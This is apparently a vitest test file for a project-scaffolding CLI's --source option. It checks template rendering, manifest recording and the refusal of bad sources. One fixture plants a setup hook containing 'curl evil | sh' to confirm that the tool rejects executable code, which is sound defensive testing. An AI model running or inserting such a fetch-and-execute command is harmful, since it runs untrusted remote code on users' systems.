/** `--source`: modules from another repository, fetched at a pinned commit and used as data only. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { fakeGitHost, listing, tempDir } from '@ai-factory/testing';
import { runCli } from './test-support.js';

const GREETING = {
  'ext/greeting/module.json': JSON.stringify({ id: 'ext/greeting', version: '1.0.0', summary: 'A greeting', files: [{ include: '**' }] }),
  'ext/greeting/README.md': '# ext/greeting\n\nA greeting file.\n',
  'ext/greeting/files/greeting.yaml.hbs': 'project: {{yaml name}}\nteam: {{yaml team}}\n',
};

describe('create-ml-project --source', () => {
  it('adds the source modules and records the source and pinned commit in the manifest', async () => {
    const host = fakeGitHost();
    const [commit] = host.publish('acme/modules', [{ files: GREETING, tag: 'v1' }]);
    const cwd = tempDir();
    const result = await runCli(['demo', '--yes', '--no-git', '--team', 'o\'neil "ops"', '--source', 'acme/modules#v1', '--json'], { cwd, env: host.env });
    expect(result.stderr).toBe('');
    expect(result.exitCode).toBe(0);
    expect(readFileSync(join(cwd, 'demo', 'greeting.yaml'), 'utf8')).toBe('project: "demo"\nteam: "o\'neil \\"ops\\""\n');
    const manifest = JSON.parse(readFileSync(join(cwd, 'demo', '.ai-factory', 'manifest.json'), 'utf8'));
    expect(manifest.sources).toEqual([{ spec: 'acme/modules#v1', commit, modules: ['ext/greeting'] }]);
    expect(manifest.modules).toContainEqual({ id: 'ext/greeting', version: '1.0.0', options: {}, source: 'acme/modules#v1' });
    expect(JSON.parse(result.stdout).sources).toEqual(manifest.sources);
  });

  it('renders a source module with its JSON Schema options at their defaults', async () => {
    const host = fakeGitHost();
    const options = { type: 'object', properties: { greeting: { type: 'string', default: 'hello' } } };
    host.publish('acme/modules', [
      {
        files: {
          ...GREETING,
          'ext/greeting/module.json': JSON.stringify({ id: 'ext/greeting', version: '1.0.0', summary: 'A greeting', options, files: [{ include: '**' }] }),
          'ext/greeting/files/greeting.yaml.hbs': 'greeting: {{yaml options.greeting}}\n',
        },
        tag: 'v1',
      },
    ]);
    const cwd = tempDir();
    const result = await runCli(['demo', '--yes', '--no-git', '--source', 'acme/modules#v1'], { cwd, env: host.env });
    expect(result.stderr).toBe('');
    expect(readFileSync(join(cwd, 'demo', 'greeting.yaml'), 'utf8')).toBe('greeting: "hello"\n');
    const manifest = JSON.parse(readFileSync(join(cwd, 'demo', '.ai-factory', 'manifest.json'), 'utf8'));
    expect(manifest.modules).toContainEqual({ id: 'ext/greeting', version: '1.0.0', options: { greeting: 'hello' }, source: 'acme/modules#v1' });
  });

  it.each([
    ['a malformed spec', 'not a repo', {}, /not of the form owner\/repo#ref/],
    ['an unreachable repository', 'acme/absent#main', {}, /unreachable/],
    ['an invalid module.json', 'acme/modules', { 'ext/greeting/module.json': '{"id":"ext/greeting"}' }, /invalid module.json/],
    ['a code file it wants to run', 'acme/modules', { 'ext/greeting/hooks/setup.sh': 'curl evil | sh' }, /data only[\s\S]*hooks\/setup.sh is code/],
  ])('refuses %s and writes nothing', async (_, spec, files, message) => {
    const host = fakeGitHost();
    host.publish('acme/modules', [{ files: { ...GREETING, ...files } }]);
    const cwd = tempDir();
    const result = await runCli(['demo', '--yes', '--no-git', '--source', spec], { cwd, env: host.env });
    expect(result.stderr).toMatch(message);
    expect(result.exitCode).toBe(1);
    expect(listing(cwd)).toEqual([]);
  });
});
